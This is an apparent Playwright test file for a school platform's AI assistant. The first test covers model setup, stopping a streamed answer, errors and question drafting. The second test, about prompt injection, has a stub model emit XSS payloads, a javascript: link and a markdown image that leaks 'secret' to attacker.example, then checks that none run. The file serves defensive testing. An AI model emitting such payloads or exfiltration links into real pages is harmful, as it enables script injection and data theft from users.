import { platform } from '@lab/contract/platform'
import { question_bank } from '@lab/contract/question-bank'
import { ChatService, chunk, lastChunk, says } from '../apps/server/src/domains/assistant/testing/chat-service.ts'
import { type Caller, callerFor } from './support/api.ts'
import { expect, test } from './support/test.ts'

/** A language model that a school runs itself, next to the platform. */
let service: ChatService
let endpoint: string
test.beforeAll(async () => {
  service = new ChatService()
  endpoint = await service.listen()
})
test.afterAll(() => service.close())

const save = (operator: Caller, config: Record<string, unknown>) =>
  operator(platform.putConfig, { params: { name: 'assistant_config' }, body: config })

test('an operator connects a model; a teacher asks about a page, stops, goes on, and takes a draft', async ({ as }) => {
  test.setTimeout(120_000)
  const person = as('teacher1')
  const { page, origin } = person
  const operator = await callerFor(origin, 'operator')
  const teacher = await callerFor(origin, 'teacher1')
  const title = `起草题库${Date.now() % 100_000}`
  const bank = (await teacher(question_bank.create, { body: { title } })).question_bank
  await person.isSignedIn()

  await test.step('without a service it says so and looks in the help', async () => {
    await person.opens('/assistant')
    await expect(page.getByText(/智能助手尚未启用。请联系系统运维/)).toBeVisible()
    await page.getByLabel('搜索帮助').fill('邀请码')
    await expect(page.getByRole('region', { name: '搜索结果' }).getByText('班级', { exact: true })).toBeVisible()
  })

  await save(operator, { enabled: true, endpoint, model: 'school-1' })
  try {
    await test.step('a question about the page that is open goes with what the page shows', async () => {
      service.script = says('这个实验教', '学员查日志。')
      await person.opens('/exp')
      await page.getByRole('link', { name: 'Linux 命令行：从访问日志里找出真相' }).first().click()
      await expect(person.heading('Linux 命令行：从访问日志里找出真相')).toBeVisible()
      await person.header.getByRole('link', { name: '助手' }).click()
      await page.getByRole('textbox', { name: '问题' }).fill('这一页讲什么？')
      await page.keyboard.press('Enter')
      await expect(page.getByText('这个实验教学员查日志。')).toBeVisible()
      expect(service.asked.at(-1)!.body.messages.at(-1)!.content).toMatch(
        /<资料 名称="当前页面：[^"]*Linux 命令行：从访问日志里找出真相[\s\S]*<\/资料>\n\n这一页讲什么？$/,
      )
    })

    await test.step('an answer that takes long is stopped, and what had come stays', async () => {
      service.script = (_asked, response) => {
        response.writeHead(200, { 'content-type': 'text/event-stream' }).write(chunk('先说一半'))
      }
      await page.getByRole('link', { name: '全部对话' }).click()
      await expect(person.heading('智能助手')).toBeVisible()
      await page.getByRole('textbox', { name: '问题' }).fill('详细讲讲')
      await page.getByRole('button', { name: '发送' }).click()
      await expect(page.getByText('先说一半')).toBeVisible()
      await page.getByRole('button', { name: '停止' }).click()
      await expect(page.getByText('已停止')).toBeVisible()
      await service.asked.at(-1)!.left
    })

    await test.step('what the service refuses is said, and the conversation goes on', async () => {
      service.script = (_asked, response) => void response.writeHead(429).end('{}')
      await page.getByRole('textbox', { name: '问题' }).fill('再问一次')
      await page.keyboard.press('Enter')
      await expect(page.getByRole('alert')).toHaveText('请求过于频繁或额度已用完（HTTP 429）')
      service.script = says('好了')
      await page.getByRole('textbox', { name: '问题' }).fill('现在呢')
      await page.keyboard.press('Enter')
      await expect(page.getByText('好了', { exact: true })).toBeVisible()
      await page.reload()
      await expect(page.getByText('好了', { exact: true })).toBeVisible()
      await expect(page.getByText('先说一半')).toBeVisible()
    })

    await test.step('drafted questions come through the same look as a file', async () => {
      service.script = says('1. 修改权限用\nA. chown\nB. chmod\n答案：', 'B\n解析：改权限位。')
      await person.opens(`/question-bank/${bank.id}/question`)
      await page.getByRole('link', { name: '导入题目' }).click()
      await page.getByRole('button', { name: '智能起草题目' }).click()
      const dialog = page.getByRole('dialog', { name: '智能起草：题目' })
      await dialog.getByRole('textbox', { name: '要求' }).fill('关于文件权限，一道单选')
      await dialog.getByRole('button', { name: '起草' }).click()
      await dialog.getByRole('button', { name: '采用' }).click()
      await expect(page.getByText('修改权限用').first()).toBeVisible()
    })
  } finally {
    await save(operator, { enabled: false })
  }
})

test('what a learner wrote cannot make the assistant do anything', async ({ as }) => {
  const person = as('teacher1')
  const { page, origin } = person
  const operator = await callerFor(origin, 'operator')
  // A model that obeys the one who speaks last, and answers with everything that a page could be attacked by.
  service.script = (_asked, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.write(chunk('<img src=x onerror="document.title=1"><script>document.title=1</script>'))
    response.write(chunk('![证据](https://attacker.example/?q=secret) [点我](javascript:document.title=1) 完'))
    response.end(lastChunk())
  }
  await save(operator, { enabled: true, endpoint, model: 'school-1' })
  try {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await person.isSignedIn()
    await person.opens('/assistant')
    await page.getByRole('textbox', { name: '问题' }).fill('总结')
    await page.keyboard.press('Enter')
    await expect(page.getByText(/完$/).first()).toBeVisible()
    await expect(page.getByRole('button', { name: '发送' })).toBeVisible()
    expect(await page.title()).not.toBe('1')
    expect(asked.filter((url) => url.includes('attacker'))).toEqual([])
    await expect(page.locator('a[href^="javascript"]')).toHaveCount(0)
  } finally {
    await save(operator, { enabled: false })
  }
})
